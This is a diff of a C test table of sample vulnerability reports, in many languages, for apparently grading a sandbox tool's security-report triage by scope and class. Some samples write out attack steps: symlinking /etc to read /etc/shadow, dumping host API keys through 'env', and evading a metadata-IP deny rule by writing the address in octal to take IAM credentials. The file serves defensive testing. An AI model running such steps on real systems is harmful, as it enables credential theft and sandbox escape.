+	  "reads host files through it, much as runc's bug did.", TRUE, "", "sandbox_escape" },
+	{ "[GHSA-q3x7-m2rf-9v8c] --net none guest reaches the host over IPv6",
+	  "With --net none the guest still talks to the host over IPv6 link-local; the egress filter\n"
+	  "only looks at IPv4.", TRUE, "", "network_bypass" },
+	/* ... while the id with the dependency it is in still is one */
+	{ "CVE-2024-37890 in the Node SDK",
+	  "The ws package in the Node SDK's dependency tree is affected by CVE-2024-37890.", FALSE,
+	  "upstream", NULL },
+	/* a self-DoS told in the writer's own language (round 58's German):
+	 * the hang or the full disk, and the limit, the others carrying on */
+	{ "msb exec se bloque quand le disque de la sandbox est plein",
+	  "Quand le script dans la sandbox remplit le disque, msb exec se bloque. Les autres sandbox\n"
+	  "continuent normalement, et le Mac aussi.", TRUE, "self_dos", NULL },
+	{ "msb run se cuelga con una fork bomb",
+	  "Con una fork bomb dentro del invitado, msb run se cuelga; solo mi propio sandbox queda\n"
+	  "afectado.", TRUE, "self_dos", NULL },
+	/* "dos" is an ordinary word in the Iberian languages ("of the",
+	 * "two"); "DoS" as written still names the harm (#3) */
+	{ "Os permisos dos directorios de snapshots",
+	  "Os snapshots de dous usuarios quedan lexibles para todos no host; calquera usuario le os\n"
+	  "segredos do outro.", TRUE, "", NULL },
+	{ "Guest DoS",
+	  "A fork bomb in the guest hangs only my own sandbox; the host is fine.", TRUE, "self_dos", NULL },
+	/* untested, from reading the source, in the writer's language (the
+	 * claim keeps its class: another sandbox reading memory is isolation) */
+	{ "Posible fuga entre sandboxes",
+	  "Leyendo el código me parece que otro sandbox podría leer la memoria compartida. No lo he\n"
+	  "probado todavía.", FALSE, "theoretical", "isolation_bypass" },
+	{ "Mögliche Rechteausweitung",
+	  "Aus dem Code geschlossen: ein lokaler Benutzer könnte root werden. Selbst nicht getestet.",
+	  FALSE, "theoretical", "privilege_escalation" },
+	{ "Fork bomb in de guest",
+	  "Een fork bomb in de guest: msb run blijft hangen, maar de andere sandboxen draaien gewoon\n"
+	  "door.", TRUE, "self_dos", NULL },
+	{ "msb exec never returns once the guest disk is full",
+	  "dd: error writing '/data/x': No space left on device\n\n"
+	  "After that msb exec never returns. Other sandboxes kept running.", TRUE, "self_dos", NULL },
+	/* issue #3 (round 69's 798, round 70's 816): the limit told as the
+	 * rest of the machine, the other sandboxes or programs carrying on or
+	 * noticing nothing, and the hang in the writer's language */
+	{ "msb kraschar med v\xc3\xa5r egen kod",
+	  "N\xc3\xa4r mitt skript allokerar f\xc3\xb6r mycket kraschar sandboxen. De andra sandboxarna\n"
+	  "fungerar som vanligt och datorn m\xc3\xa4rker inget.", TRUE, "self_dos", NULL },
+	{ "El sandbox deja de responder",
+	  "Cuando mi script escribe sin parar, el sandbox deja de responder y tengo que reiniciarlo.\n"
+	  "El resto del equipo sigue funcionando.", TRUE, "self_dos", NULL },
+	{ "Sandbox stopper ved store filer",
+	  "Sandboxen g\xc3\xa5r ned, n\xc3\xa5r vores job skriver en stor fil. Resten af maskinen k\xc3\xb8rer\n"
+	  "helt normalt.", TRUE, "self_dos", NULL },
+	/* ... while the rest of the machine going down with it is none */
+	{ "Sandbox przestaje dzia\xc5\x82" "a\xc4\x87",
+	  "Sandbox przestaje dzia\xc5\x82" "a\xc4\x87, a reszta komputera te\xc5\xbc nie dzia\xc5\x82" "a normalnie: ca\xc5\x82y\n"
+	  "laptop si\xc4\x99 zawiesza.", TRUE, "", ANY_CLASS },
+	{ "Sandboxen stopper",
+	  "Sandboxen stopper, og de andre sandboxes p\xc3\xa5 maskinen stopper ogs\xc3\xa5.", TRUE, "",
+	  ANY_CLASS },
+	{ "msb run h\xc3\xa4ngt",
+	  "msb run h\xc3\xa4ngt, und der Rest des Rechners l\xc3\xa4uft nicht normal weiter.", TRUE, "",
+	  ANY_CLASS },
+	/* ... a hang alone, without the limit, is no self-DoS */
+	{ "msb run hängt",
+	  "Der Gast schreibt die Platte des Hosts voll, msb run hängt, und danach starten keine\n"
+	  "Sandboxen mehr.", TRUE, "", NULL },
+	/* a hardening wish in plain words: the writer claims no finding and
+	 * asks for a change (round 58's 672) */
+	{ "msb-netd keeps CAP_NET_ADMIN all the time",
+	  "I'm not claiming a vulnerability here. If the helper ever had a parsing bug, an attacker\n"
+	  "would get that capability on the host. Could you consider dropping it after setup?", FALSE,
+	  "hardening", NULL },
+	{ "msbd socket is group-writable",
+	  "I have not found a way to abuse this, but the socket is mode 0660 for group msb and any\n"
+	  "member could start sandboxes as root. Would it be possible to make it 0600?", TRUE,
+	  "hardening", NULL },
+	/* (1849) the same in Bengali and Hindi: the finding denied as one,
+	 * nothing attacked, a suggestion; "not just a weakness" before an
+	 * attack, "I have no full exploit yet" and a suggestion for the fix
+	 * beside a real finding are none */
+	{ "msbd নিয়ে একটি হার্ডেনিং পরামর্শ",
+	  "msbd প্রসেসটি root হিসেবে সব capability রেখে চলে। এটা কোনো দুর্বলতা নয়, আমি কোনো\n"
+	  "আক্রমণ করিনি; capability কমালে ভবিষ্যতের কোনো বাগের ক্ষতি কম হবে।", FALSE, "hardening", NULL },
+	{ "msb-netd সম্পর্কে একটি পরামর্শ",
+	  "msb-netd বাইনারিটি stack canary ছাড়া বিল্ড করা। এটা exploit করা যায় না, শুধু\n"
+	  "ভবিষ্যতের জন্য বলছি।", FALSE, "hardening", NULL },
+	{ "msbd के लिए सुझाव",
+	  "msbd सभी capabilities के साथ root के रूप में चलता है। यह कोई vulnerability नहीं है,\n"
+	  "मैंने कोई हमला नहीं किया; बस capabilities कम करना बेहतर होगा।", FALSE, "hardening", NULL },
+	{ "guest থেকে host-এর ফাইল মুছে ফেলা যায়",
+	  "এটা শুধু দুর্বলতা নয়: guest-এর ভেতরে symlink বানিয়ে আমি host-এর /srv/data/a.txt\n"
+	  "মুছে ফেলেছি।\n\n    $ msb exec t -- ln -s /srv/data /shared/x\n    $ msb exec t -- rm /shared/x/a.txt\n", TRUE, "", ANY_CLASS },
+	{ "symlink से होस्ट की फ़ाइलें पढ़ी जा सकती हैं",
+	  "guest के अंदर symlink बनाकर होस्ट की /etc/shadow पढ़ी जा सकती है। मेरे पास अभी पूरा\n"
+	  "exploit नहीं है, पर नीचे के कदम हर बार काम करते हैं।\n\n    $ msb exec t -- ln -s /etc /shared/e\n"
+	  "    $ cat ~/share/e/shadow\n\nसमाधान का सुझाव: path resolve करते समय symlink न मानें।", TRUE, "", ANY_CLASS },
+	{ "API सर्वर का टोकन guest में दिखता है",
+	  "guest के अंदर env चलाने पर host का MSB_API_KEY दिखता है। यह vulnerability नहीं होनी\n"
+	  "चाहिए थी।\n\n    $ msb exec t -- env | grep MSB\n    MSB_API_KEY=msb_live_1\n", TRUE, "", ANY_CLASS },
+	/* issue #3 (round 70's 817): a wish that a secret be kept somewhere
+	 * safer, with no attack shown, in plain words and in German */
+	{ "SDK token stored in a dotfile",
+	  "The Python SDK writes my token to a dotfile in my home directory. It would be safer if it\n"
+	  "went into the macOS keychain instead; I don't think anyone has ever read mine.", FALSE,
+	  "hardening", NULL },
+	{ "Vorschlag: API-Schl\xc3\xbcssel",
+	  "msb legt den API-Schl\xc3\xbcssel als Klartext in einer Datei ab. Es w\xc3\xa4re sch\xc3\xb6n, wenn er im\n"
+	  "Schl\xc3\xbcsselbund l\xc3\xa4ge.", FALSE, "hardening", NULL },
+	/* ... while the same wish beside an attack on another user is a finding */
+	{ "Other local users can use my cloud key",
+	  "credentials.toml is mode 0644, so a second account on my laptop read my key and deleted my\n"
+	  "sandboxes with it; I tried it. It would be better if the CLI used the system keyring.", TRUE,
+	  "", ANY_CLASS },
+	/* ... while modesty about a real finding is none */
+	{ "Not sure if this is a bug: the API key is in our error tracker",
+	  "The Node SDK puts the full API key into the error message when a request fails, so it ends\n"
+	  "up in our error tracker. Could you add redaction?", TRUE, "", "secret_leakage" },
+	/* the writer found nothing that could be exploited and calls it a
+	 * habit worth changing (round 62's 720, in other words) */
+	{ "Build job fetches helper actions by branch name",
+	  "The build job downloads its helper actions by branch name rather than a fixed digest.\n"
+	  "I looked for a way in and saw nothing really abusable; still, it would be nice to freeze them.",
+	  FALSE, "hardening", NULL },
+	{ "Deploy key readable by the docs workflow",
+	  "We have not come across anything directly exploitable, but defaulting the token to\n"
+	  "read-only is something you could consider adding.", FALSE, "hardening", NULL },
+	/* ... "nothing else exploitable" leaves the reported finding standing */
+	{ "Guest writes host files through the filesystem broker",
+	  "A guest can write files on the host outside the share through a symlink race in the\n"
+	  "filesystem broker: a full sandbox escape. Nothing else in the broker looked exploitable,\n"
+	  "and I saw nothing else exploitable in agentd either.", TRUE, "", "sandbox_escape" },
+	/* issue #3: physical access, a stolen machine and a boot from USB in
+	 * other languages, the noun before or after its adjective; the
+	 * same words negated, and physical memory, are none.  These cases
+	 * judge the scope; a sentence this short does not decide the class
+	 * (the stolen disk's secrets are secret_leakage, which the word model
+	 * does not always see), so it is not checked */
+	{ "Secretos legibles en los snapshots",
+	  "Si alguien tiene acceso físico al portátil puede leer los secretos del snapshot.", TRUE,
+	  "physical_access", ANY_CLASS },
+	{ "Snapshot dosyaları şifresiz",
+	  "Dizüstü bilgisayar çalınırsa snapshot içindeki API anahtarları okunabilir.", TRUE,
+	  "physical_access", "secret_leakage" },
+	{ "スナップショットが暗号化されていない",
+	  "ノートPCが盗まれた場合、スナップショットから API キーを読み出せます。", TRUE,
+	  "physical_access", ANY_CLASS },
+	{ "Snapshots unverschlüsselt",
+	  "Mit physischem Zugriff, etwa von einem USB-Stick gebootet, liest man die Snapshots.", TRUE,
+	  "physical_access", ANY_CLASS },
+	{ "快照未加密", "攻击者需要物理接触这台机器才能读取快照。", TRUE, "physical_access", ANY_CLASS },
+	{ "Secretos legibles por otros usuarios",
+	  "No se requiere acceso físico: cualquier usuario local lee los secretos del snapshot.", TRUE,
+	  "", ANY_CLASS },
+	{ "Утечка памяти гостя",
+	  "Гость получает доступ к физической памяти хоста через устройство virtio.", TRUE, "", ANY_CLASS },
+	{ "物理アクセスは不要", "物理アクセスは不要です。ほかのユーザーがスナップショットを読めます。", TRUE,
+	  "", ANY_CLASS },
+	/* issue #3: the writer grants that the documentation warns against the
+	 * opt-in mode the finding needs for untrusted code, and asks for defence
+	 * in depth: hardening, the class the subject claims kept with a PoC.
+	 * Docs that promise safety, a warning about something else, or a
+	 * finding that works without the mode too are no such grant. */
+	{ "Sandbox escape with --privileged-mounts",
+	  "With --privileged-mounts the guest can remount the share and write host files.\n"
+	  "Without the flag the remount fails.\n\n"
+	  "I'm aware the manual says --privileged-mounts \"gives the guest raw mount rights;\n"
+	  "never enable it for untrusted workloads\". Still, msb could drop CAP_SYS_ADMIN anyway.\n",
+	  TRUE, "hardening", "sandbox_escape" },
+	{ "Sandbox escape through the shared folder",
+	  "The guest writes host files through a symlink in the share.\n\n"
+	  "I know the docs say volumes are isolated from the host's other paths, but they are not.\n",
+	  TRUE, "", "sandbox_escape" },
+	{ "Sandbox escape with --net host",
+	  "With --net host the guest reaches the daemon on loopback and starts a sandbox that\n"
+	  "mounts the host's root.\n\n"
+	  "I know the docs say --net host must not be used with untrusted code, but the same\n"
+	  "request also works without it, through the gateway address.\n",
+	  TRUE, "", "sandbox_escape" },
+	{ "Sandbox escape through the shared folder",
+	  "The guest writes host files through a symlink in the share.\n\n"
+	  "I know the docs say so.\n\n"
+	  "Unrelated: the README says the old server is not meant for untrusted networks.\n",
+	  TRUE, "", "sandbox_escape" },
+	/* issue #3 (round 96): an egress deny rule got past by writing the
+	 * blocked address another way (decimal, octal, mapped IPv6) is
+	 * network_bypass even when the impact is the metadata service's keys;
+	 * keys leaked with no rule got past, and hex in a crash, stay as they were */
+	{ "Deny rule for the metadata IP can be evaded",
+	  "I denied 169.254.169.254 with --deny-net, but if the guest writes the IP in octal\n"
+	  "(0251.0376.0251.0376) the request goes through and returns the node's IAM credentials,\n"
+	  "so untrusted code can steal the instance credentials.\n",
+	  TRUE, "", "network_bypass" },
+	{ "Outbound block list bypassed with an IPv4-mapped IPv6 address",
+	  "Blocking 10.0.0.5 does not stop the guest: it dials ::ffff:10.0.0.5, an IPv4-mapped IPv6\n"
+	  "address, and reads the internal vault's tokens. The egress deny rule is bypassed.\n",
+	  TRUE, "", "network_bypass" },
+	{ "Metadata credentials leaked in SDK logs",
+	  "The SDK logs the full IAM credentials it fetched from the metadata service into the\n"
+	  "debug log, so anyone reading the logs gets the secret access key.\n",
+	  TRUE, "", "secret_leakage" },
+	/* issue #3 (round 96): the same grant from a docstring ("Only use with
+	 * trusted code"), as a relative clause on the option ("which the docs
+	 * say is not recommended") or as the docs' warning against enabling
+	 * it; docs that call the option safe, a warning about something else
+	 * and a finding that also works without the option are none */
+	{ "Host tokens readable from the guest",
+	  "With expose_host_keys=True the guest reads the host's tokens.\n\n"
+	  "I know the docstring says \"expose_host_keys: share the key agent. Only use with trusted\n"
+	  "workloads.\" but it is easy to turn on by mistake.\n",
+	  TRUE, "hardening", ANY_CLASS },
+	{ "Guest reads ~/.ssh",
+	  "With mount_home=True, which the docs say is not recommended, the guest can read ~/.ssh.\n",
+	  TRUE, "hardening", ANY_CLASS },
+	{ "Escape with --pass-docker-sock",
+	  "The documentation warns against enabling --pass-docker-sock, but with it the guest starts\n"
+	  "a privileged container on the host.\n",
+	  TRUE, "hardening", ANY_CLASS },
+	{ "Guest writes host files",
+	  "With --share ./data, which the docs say is safe, the guest writes files outside ./data.\n",
+	  TRUE, "", ANY_CLASS },
+	{ "Guest writes host files",
+	  "The guest writes files outside the share through a symlink.\n\n"
+	  "The documentation warns about disk usage of large shares, which is unrelated.\n",
+	  TRUE, "", ANY_CLASS },
+	{ "Guest reads ~/.ssh",
+	  "With mount_home=True, which the docs say is unsafe, the guest reads ~/.ssh; it also works\n"
+	  "without the option, through the default cache mount.\n",
+	  TRUE, "", ANY_CLASS },
+	/* blind round 20 (and 81 of round 8): hardening wishes in Danish and Polish */
+	{ "Forslag: seccomp-filtre til VMM-processen",
+	  "Jeg har ikke fundet en s\xc3\xa5rbarhed. I b\xc3\xb8r tilf\xc3\xb8je seccomp-filtre; det er forsvar i dybden.",
+	  FALSE, "hardening", NULL },
+	{ "Seccomp dla procesu VMM",
+	  "To nie jest konkretna podatno\xc5\x9b\xc4\x87, raczej sugestia: domy\xc5\x9blny profil seccomp.",
+	  FALSE, "hardening", NULL },
+	/* issue #3 (round 68's 786, 794): a reason the writer names only to
+	 * rule it out, as a first reading or as the one a reader might
+	 * take, is no hint; the claim after the turn decides ... */
+	{ "netd dies for everyone",
+	  "My first impression was a self-DoS that only hangs my own sandbox. It is not: the host's\n"
+	  "netd dies too and every other sandbox loses its network.", TRUE, "", ANY_CLASS },
+	{ "Snapshot key readable",
+	  "You might assume an attacker needs physical access to the laptop; any local account\n"
+	  "reads the snapshot key over the socket.", TRUE, "", ANY_CLASS },
+	{ "Snapshot-Schlüssel lesbar",
+	  "Zuerst dachte ich, man bräuchte physischen Zugriff auf den Rechner. Tatsächlich reicht\n"
+	  "ein normales Benutzerkonto.", TRUE, "", ANY_CLASS },
+	{ "L'hôte se fige",
+	  "Au départ j'ai cru à un simple self-DoS de ma propre sandbox, mais l'hôte entier ne\n"
+	  "répond plus.", TRUE, "", ANY_CLASS },
+	{ "Clave del snapshot legible",
+	  "A primera vista parecía que hacía falta acceso físico al equipo, pero basta con una\n"
+	  "cuenta local.", TRUE, "", ANY_CLASS },
+	{ "Tutto l'host bloccato",
+	  "Inizialmente credevo che fosse un DoS che blocca solo la mia sandbox; in realtà si\n"
+	  "ferma tutto l'host.", TRUE, "", ANY_CLASS },
+	{ "Chave do snapshot legível",
+	  "No início achei que era preciso acesso físico à máquina, mas qualquer usuário local\n"
+	  "consegue ler a chave.", TRUE, "", ANY_CLASS },
+	{ "Host blokkeert",
+	  "Aanvankelijk leek het een self-DoS van alleen mijn eigen sandbox, maar de hele host\n"
+	  "reageert niet meer.", TRUE, "", ANY_CLASS },
+	{ "Klucz snapshotu do odczytu",
+	  "Na początku myślałem, że potrzebny jest fizyczny dostęp do komputera, ale wystarczy\n"
+	  "zwykłe konto.", TRUE, "", ANY_CLASS },
+	/* ... while a writer who concedes the reason keeps it, and a turn
+	 * ends the rejected reading: what follows it is read */
+	{ "Fork bomb hangs the guest",
+	  "This is only a self-DoS, sorry: the fork bomb hangs my own sandbox and nothing else.", TRUE,
+	  "self_dos", NULL },
+	{ "Snapshot keys in plain text",
+	  "It requires physical access to the unlocked laptop, I know, but the snapshot keys are\n"
+	  "readable in plain text.", TRUE, "physical_access", ANY_CLASS },
+	{ "Guest hangs",
+	  "At first I thought this was a sandbox escape, but it only hangs my own sandbox; the host\n"
+	  "is fine.", TRUE, "self_dos", ANY_CLASS },
+	{ "Possible race in agentd",
+	  "I think this is theoretical: I have not tested it and have no PoC.", FALSE, "theoretical",
+	  ANY_CLASS },
+	/* issue #3 (round 68's 787): nothing tested and no PoC, in other
+	 * languages, is a theoretical reading */
+	{ "Lecture du code de snapshot",
+	  "Je n'ai encore rien essayé et je n'ai aucun exploit : c'est une lecture du code.", FALSE,
+	  "theoretical", ANY_CLASS },
+	{ "Posible fuga entre sandboxes",
+	  "No he probado nada y no tengo ningún exploit; lo saqué del código.", FALSE, "theoretical",
+	  ANY_CLASS },
+	{ "Mögliches Leck zwischen Sandboxen",
+	  "Ich habe nichts davon ausprobiert und habe keinen PoC.", FALSE, "theoretical", ANY_CLASS },
+	{ "Possibile fuga tra sandbox",
+	  "Non ho ancora testato niente e non ho un PoC.", FALSE, "theoretical", ANY_CLASS },
+	{ "Mogelijk lek tussen sandboxes",
+	  "Ik heb niets getest en heb geen exploit.", FALSE, "theoretical", ANY_CLASS },
+	/* (1827) an exploit not yet built, a PoC promised for when it is
+	 * ready and the writer's confidence in place of a demonstration, in
+	 * English, Portuguese and Spanish: theoretical; a shown crash that
+	 * only promises its exploit is not */
+	{ "Timing side channel in the VMM scheduler",
+	  "We reviewed the code of the vCPU scheduler and an attacker could learn another tenant's\n"
+	  "activity. We haven't finished the exploit yet but are certain this is exploitable; we'll\n"
+	  "share the working PoC once it is stable.", FALSE, "theoretical", ANY_CLASS },
+	{ "Vazamento entre snapshots",
+	  "Ainda n\xc3\xa3o constru\xc3\xadmos o exploit completo, mas estamos confiantes de que \xc3\xa9 "
+	  "explor\xc3\xa1vel. Enviaremos a PoC quando estiver pronta.", FALSE, "theoretical", ANY_CLASS },
+	{ "Fuga entre snapshots",
+	  "Todav\xc3\xad" "a no hemos escrito el exploit, pero creemos que es explotable. Enviaremos el "
+	  "PoC cuando est\xc3\xa9 listo.", FALSE, "theoretical", ANY_CLASS },
+	{ "agentd crashes on a long frame",
+	  "Sending a 70000-byte frame to agentd crashes it:\n\n"
+	  "  thread 'main' panicked at 'index out of bounds: the len is 65536 but the index is 65536'\n\n"
+	  "We will send the full exploit when it is ready.", FALSE, "", ANY_CLASS },
+	/* issue #3: a crash, a hang or a full disk that is the writer's own
+	 * circumstance is not a self-DoS when the finding is what the crash
+	 * leaves behind ... */
+	{ "msbd core files can be read by everyone",
+	  "Our build farm ran out of disk last week while we were chasing an unrelated hang. What\n"
+	  "filled it: whenever msbd dies it leaves a core dump in /tmp that every account on the box\n"
+	  "can open, and the dump holds the API tokens the sandbox was started with.", TRUE, "",
+	  "secret_leakage" },
+	/* ... and the other sandboxes named as bystanders of a host DoS
+	 * ("die anderen Sandboxen stehen still") are no isolation claim */
+	{ "Gast füllt die Platte des Hosts",
+	  "Eine Sandbox schreibt die Platte des Hosts voll; danach stehen alle anderen Sandboxen und\n"
+	  "Dienste auf dem Host still.", TRUE, "", NULL },
+	/* ... a crash that only hits the writer's own sandbox still is */
+	{ "Crafted tar crashes msb-vmm",
+	  "A crafted tar in the guest makes msb-vmm crash and leave a core dump; only that sandbox\n"
+	  "dies, the other sandboxes keep running.", TRUE, "self_dos", NULL },
+	/* issue #3: only the writer's own sandbox hangs, in Japanese, Chinese
+	 * and Korean; the host or the others going down too, or "not only the
+	 * sandbox itself", is no self-DoS */
+	{ "ゲスト内のメモリ不足",
+	  "サンドボックス内でメモリを使い切るとそのサンドボックスがフリーズしますが、他のサンドボックスは\n"
+	  "正常に動いています。影響はそのサンドボックス自体のみです。", TRUE, "self_dos", NULL },
+	{ "沙箱内 fork 炸弹",
+	  "在沙箱里运行 fork 炸弹后，这个沙箱卡死了，但其他沙箱正常运行，只影响这个沙箱。", TRUE,
+	  "self_dos", NULL },
+	{ "샌드박스 안의 포크 폭탄",
+	  "포크 폭탄을 실행하면 해당 샌드박스만 멈추고, 다른 샌드박스는 정상입니다.", TRUE, "self_dos",
+	  NULL },
+	{ "フォークボムでホストが停止",
+	  "サンドボックス内でフォークボムを実行するとホストも応答しなくなり、他のサンドボックスもすべて\n"
+	  "止まります。", TRUE, "", ANY_CLASS },
+	{ "メモリ不足の影響",
+	  "ゲストでメモリを使い切ると、影響はサンドボックス自身だけでなく、ホスト全体に及びます。", TRUE,
+	  "", ANY_CLASS },
+	/* (#3) a missing safeguard the writer files as a wish rather than a
+	 * bug, with nothing attacked, is hardening and has no class */
+	{ "Ideas for the cloud console",
+	  "Sessions in the console never time out and there is no way to require a security key for\n"
+	  "admins. Please take this as a feature wish rather than a bug: I never tried to break in,\n"
+	  "I only noticed it as a regular customer.", FALSE, "hardening", NULL },
+	/* (#3) a suggestion for the fix of the reported bug is how real
+	 * reports end: with a hardened-build remark beside it, a shown
+	 * escalation to root is still no hardening wish and keeps its class */
+	{ "Linux deb: msbd runs hooks from a user-writable directory",
+	  "I want to report a local privilege escalation: the root daemon executes every script in\n"
+	  "/var/lib/msb/hooks, and the package makes that directory owned by the installing user.\n"
+	  "My script there wrote /root/owned as root. The helper is also not built as a hardened\n"
+	  "binary.\n"
+	  "Fix suggestion: keep the hooks directory owned by root.", TRUE, "", "privilege_escalation" },
+	{ "Guest reads host files through the share",
+	  "A guest can read any host file through a symlink in the shared folder; my script read\n"
+	  "/etc/shadow from the sandbox. Remediation recommendations: resolve paths with\n"
+	  "openat2 and harden the share handling.", TRUE, "", "sandbox_escape" },
+	/* ... while a suggestion that is the whole report stays one */
+	{ "Recommendation: harden the helper",
+	  "The helper binary is not built with hardening flags. My recommendation is to enable\n"
+	  "them; I have not found any bug to exploit.", FALSE, "hardening", NULL },
+	{ "Suggestion for msb",
+	  "Just a suggestion: harden the default profile and drop the extra capabilities.", FALSE,
+	  "hardening", NULL },
+	/* 1657: "hardening" as a segment of a URL or path a tool prints beside
+	 * its findings names a guide, not the writer's wish; the word in the
+	 * writer's own sentence beside a link stays one */
+	{ "Root shell from the msb group",
+	  "The audit script listed this, with its reference link:\n"
+	  "  see https://wiki.example.net/os-hardening/local-privesc/writable-dirs.html#hooks\n"
+	  "/var/lib/msb/plugins is writable by the msb group and the root daemon runs every file\n"
+	  "in it; my plugin there copied a setuid shell and I got uid 0 as a group member.", TRUE,
+	  "", "privilege_escalation" },
+	{ "Idea for the daemon",
+	  "Just a suggestion: harden the socket permissions as the guide at\n"
+	  "https://docs.example.org/linux/guide.html describes; I found no bug to exploit.", FALSE,
+	  "hardening", NULL },
+	{ "Ideas",
+	  "Not a vulnerability, only defense-in-depth: drop CAP_NET_RAW from the helper.", FALSE,
+	  "hardening", NULL },
+	/* 1585: the writer asks and answers whether it counts as a security
+	 * issue, says they have no attack, and wishes for a safeguard:
+	 * hardening, in English and other languages; the question alone, or
+	 * a shown attack after it, is a real report's modesty */
+	{ "Installer warning on macOS",
+	  "Not sure whether this qualifies as a vulnerability; likely not. I have no attack scenario,\n"
+	  "the checksum matches. It would be nicer if the .pkg were notarized.", FALSE, "hardening",
+	  NULL },
+	{ "Avviso di SmartScreen",
+	  "Non so se conta come problema di sicurezza, probabilmente no. Non ho nessun attacco da\n"
+	  "mostrare: sarebbe meglio firmare l'installer.", FALSE, "hardening", NULL },
+	{ "Avertissement à l'installation",
+	  "Je ne sais pas si c'est une vulnérabilité, probablement pas, et je n'ai pas d'attaque.\n"
+	  "Ce serait mieux de signer les exécutables.", FALSE, "hardening", NULL },
+	{ "Guest reads host files through the share mount",
+	  "Not sure if this counts as a security issue, but a guest reads any host file through a\n"
+	  "symlink in the shared folder; my script printed /etc/shadow from the sandbox.", TRUE, "",
+	  "sandbox_escape" },
+	{ "Escape via the share helper",
+	  "I don't have an exploit written yet, but a symlink in the shared folder lets the guest\n"
+	  "write host files outside the share.", FALSE, "", ANY_CLASS },
+	/* (#3) the writer does not know whether the product ever reaches the
+	 * flawed code: theoretical, in English and other languages */
+	{ "Regex backtracking in a dependency of the CLI",
+	  "The yaml-lite crate has a catastrophic backtracking regex in its anchor parser. I don't\n"
+	  "know whether the CLI ever hands user-supplied files to that parser, but a bump to 2.1\n"
+	  "fixes it.", FALSE, "theoretical", ANY_CLASS },
+	{ "Python SDK dependency flaw",
+	  "The tarfile helper in the vendored package has a path traversal. I'm not sure which part\n"
+	  "of the SDK uses that helper, if any.", FALSE, "theoretical", ANY_CLASS },
+	{ "Abhängigkeit im Node-SDK",
+	  "Die Bibliothek qs hat einen Fehler beim Parsen tiefer Objekte. Ich weiß nicht, ob das SDK\n"
+	  "diese Funktion mit fremden Eingaben aufruft.", FALSE, "theoretical", ANY_CLASS },
+	{ "Dépendance du SDK Python",
+	  "La bibliothèque a un défaut dans son analyseur XML. Je ne sais pas si le SDK lui passe\n"
+	  "des données non fiables.", FALSE, "theoretical", ANY_CLASS },
+	/* "not written an exploit" is "no exploit" as "not written a PoC" is */
+	{ "Possible overflow in the vsock framing",
+	  "The frame length is trusted in theory only up to 64 KiB. I have not written an exploit\n"
+	  "for it.", FALSE, "theoretical", ANY_CLASS },
+	/* ... a known path, only not tried, stays in scope of that reason;
+	 * and a shown PoC outweighs not knowing about other callers */
+	{ "Panic in the TLS stack",
+	  "msb talks to registries through rustls, and a malformed certificate chain makes the\n"
+	  "parser panic, which kills the running pull. I haven't tried to trigger it.", FALSE, "",
+	  ANY_CLASS },
+	{ "Guest writes host files through the share",
+	  "The guest writes files on the host through a symlink in the shared folder; the script\n"
+	  "below creates /etc/owned on the host. I don't know whether the SDK also uses that code\n"
+	  "path for uploads.", TRUE, "", "sandbox_escape" },
+	{ "Guest reads host files on Linux",
+	  "A guest reads host files through a symlink in the shared folder; my script printed\n"
+	  "/etc/shadow. I'm not sure if this works on macOS, I have not tested it there.", TRUE, "",
+	  "sandbox_escape" },
+	/* issue #3 (rounds 93-94): the machine in someone's hand, told without
+	 * the words "physical access": a laptop stolen (either order, passive),
+	 * booted from a USB stick, served in Target Disk / Share Disk mode or
+	 * its disk taken out, in English and other languages ... */
+	{ "Cached credentials readable",
+	  "Should somebody steal the developer's laptop, the cached registry password in the\n"
+	  "sandbox directory is right there in plain text.", TRUE, "physical_access", ANY_CLASS },
+	{ "Keys in plain files",
+	  "When a MacBook used by the team gets stolen, its sandbox keys are one cat away.", TRUE,
+	  "physical_access", ANY_CLASS },
+	{ "Snapshot memory in clear",
+	  "Anyone who boots the machine from a live USB stick can grep the memory images.", TRUE,
+	  "physical_access", ANY_CLASS },
+	{ "Registry token on disk",
+	  "Put the Mac in target disk mode, mount it from another Mac and copy the token file.", TRUE,
+	  "physical_access", ANY_CLASS },
+	{ "Registry token on disk",
+	  "Whoever pulls the SSD out of the workstation reads every sandbox secret.", TRUE,
+	  "physical_access", ANY_CLASS },
+	{ "Chaves em texto simples",
+	  "Se o macbook for roubado, o ladrão copia as chaves dos sandboxes.", TRUE, "physical_access",
+	  ANY_CLASS },
+	{ "Sleutels onversleuteld",
+	  "Zet de Mac in doelschijfmodus en kopieer de sleutels naar een andere Mac.", TRUE,
+	  "physical_access", ANY_CLASS },
+	{ "Kunci tidak terenkripsi",
+	  "Kalau laptop developer dicuri, semua kunci sandbox bisa dibaca.", TRUE, "physical_access",
+	  ANY_CLASS },
+	/* (1358) a small board's storage card taken out, or the board stolen;
+	 * a card written by the owner or a card reader inside a sandbox is none */
+	{ "Secrets in snapshot images",
+	  "Anyone who pulls the microSD card from the board can read the tokens in the images.", TRUE,
+	  "physical_access", ANY_CLASS },
+	{ "Secrets in snapshot images",
+	  "If the Raspberry Pi is stolen from the shed, the thief has every key in clear.", TRUE,
+	  "physical_access", ANY_CLASS },
+	{ "Secrets in snapshot images",
+	  "I took the SD card out of my camera and copied the photos into a sandbox, whose env leaks "
+	  "to every other sandbox on the host.", TRUE, "", ANY_CLASS },
+	/* ... while a stolen token or key used from afar, a booting guest image
+	 * and a lost connection are none */
+	{ "Token replay",
+	  "An attacker who steals a device token from the logs can call the API from anywhere.", TRUE,
+	  "", ANY_CLASS },
+	{ "Guest boot",
+	  "The guest boots from the rootfs image even when the image digest does not match.", TRUE,
+	  "", ANY_CLASS },
+	{ "Lost connection leaks",
+	  "When the connection is lost the daemon keeps the sandbox's secrets in a world-readable file.",
+	  TRUE, "", ANY_CLASS },
+	/* (1305) the Spanish and French verbs for stealing by their own
+	 * forms: Polish "robić" (to do) and Italian "volere" (to want) beside
+	 * a laptop are no theft; "si alguien roba" and "ordinateur volé" are */
+	{ "Klucz tylko do odczytu",
+	  "Testy robiliśmy z komputera w biurze: klucz z rolą viewer pobiera pliki pamięci z sekretami "
+	  "innych sandboxów.", TRUE, "", ANY_CLASS },
+	{ "Chiave di sola lettura",
+	  "Volevo usare il portatile di un collega, ma la chiave viewer scarica comunque gli snapshot "
+	  "di memoria con i segreti.", TRUE, "", ANY_CLASS },
+	{ "Claves sin cifrar",
+	  "Si alguien roba el portátil del desarrollador, puede leer todas las claves de los sandboxes.",
+	  TRUE, "physical_access", ANY_CLASS },
+	{ "Clés en clair",
+	  "Avec un ordinateur volé, n'importe qui copie les clés des sandboxes depuis le disque.",
+	  TRUE, "physical_access", ANY_CLASS },
